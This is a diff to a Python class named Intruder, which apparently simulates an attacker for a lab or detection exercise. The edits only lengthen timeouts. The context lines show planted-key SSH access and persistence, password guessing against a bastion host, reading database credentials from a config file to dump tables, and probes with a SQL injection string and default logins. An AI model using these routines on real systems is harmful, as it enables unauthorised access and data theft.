@@ -57,16 +57,16 @@ class Intruder:
 
     def opens(self, host, port, source=None):
         try:
-            socket.create_connection((host, port), timeout=1.5, source_address=(source or self.address, 0)).close()
+            socket.create_connection((host, port), timeout=2.5, source_address=(source or self.address, 0)).close()
             return True
         except OSError:
             return False
 
     def sessions(self):
         """Every way to log in, the planted key first."""
-        yield actor.SSH(LOGIN, key=KEY, source=self.address, timeout=3)
+        yield actor.SSH(LOGIN, key=KEY, source=self.address, timeout=6)
         if self.password:
-            yield actor.SSH(LOGIN, password=self.password, source=self.address, timeout=3)
+            yield actor.SSH(LOGIN, password=self.password, source=self.address, timeout=6)
 
     def on_bastion(self, command, stdin=""):
         if not self.opens(BASTION, 22):
@@ -112,7 +112,7 @@ class Intruder:
         for password in [*getattr(self, WAY)(), self.password]:
             if not password or not self.opens(BASTION, 22):
                 continue
-            if actor.SSH(LOGIN, password=password, source=self.address, timeout=3).run(BASTION, "id") is not None:
+            if actor.SSH(LOGIN, password=password, source=self.address, timeout=6).run(BASTION, "id") is not None:
                 self.password = password
                 return True
         return False
@@ -138,7 +138,7 @@ class Intruder:
     def come_back(self):
         """By the planted key alone."""
         return self.opens(BASTION, 22) and \
-            actor.SSH(LOGIN, key=KEY, source=self.address, timeout=3).run(BASTION, "id") is not None
+            actor.SSH(LOGIN, key=KEY, source=self.address, timeout=6).run(BASTION, "id") is not None
 
     def persistence(self):
         """A key, a program that puts it back, and a job that starts the program."""
@@ -192,7 +192,7 @@ import configparser, csv, sys, psycopg2
 conf = configparser.ConfigParser(interpolation=None)
 conf.read("/etc/shop/shop.conf")
 base = conf["database"]
-link = psycopg2.connect(host=base["host"], dbname=base["name"], user=base["user"], password=base["password"], connect_timeout=3)
+link = psycopg2.connect(host=base["host"], dbname=base["name"], user=base["user"], password=base["password"], connect_timeout=6)
 link.autocommit = True
 cursor = link.cursor()
 cursor.execute({sql!r})
@@ -226,7 +226,7 @@ csv.writer(sys.stdout).writerows(cursor.fetchall())
         for path in ("/wp-login.php", "/.env", "/backup.sql", "/index.php?id=1%27%20or%201=1--%20", "/admin"):
             self.get(path, source=dice.choice((one, two)))
         if self.wave % 3 == 1 and self.opens(BASTION, 22, one):
-            actor.SSH(dice.choice(("root", "admin", "test")), password="123456", source=one, timeout=3).run(BASTION, "id")
+            actor.SSH(dice.choice(("root", "admin", "test")), password="123456", source=one, timeout=6).run(BASTION, "id")
 
 
 def encoded(name):
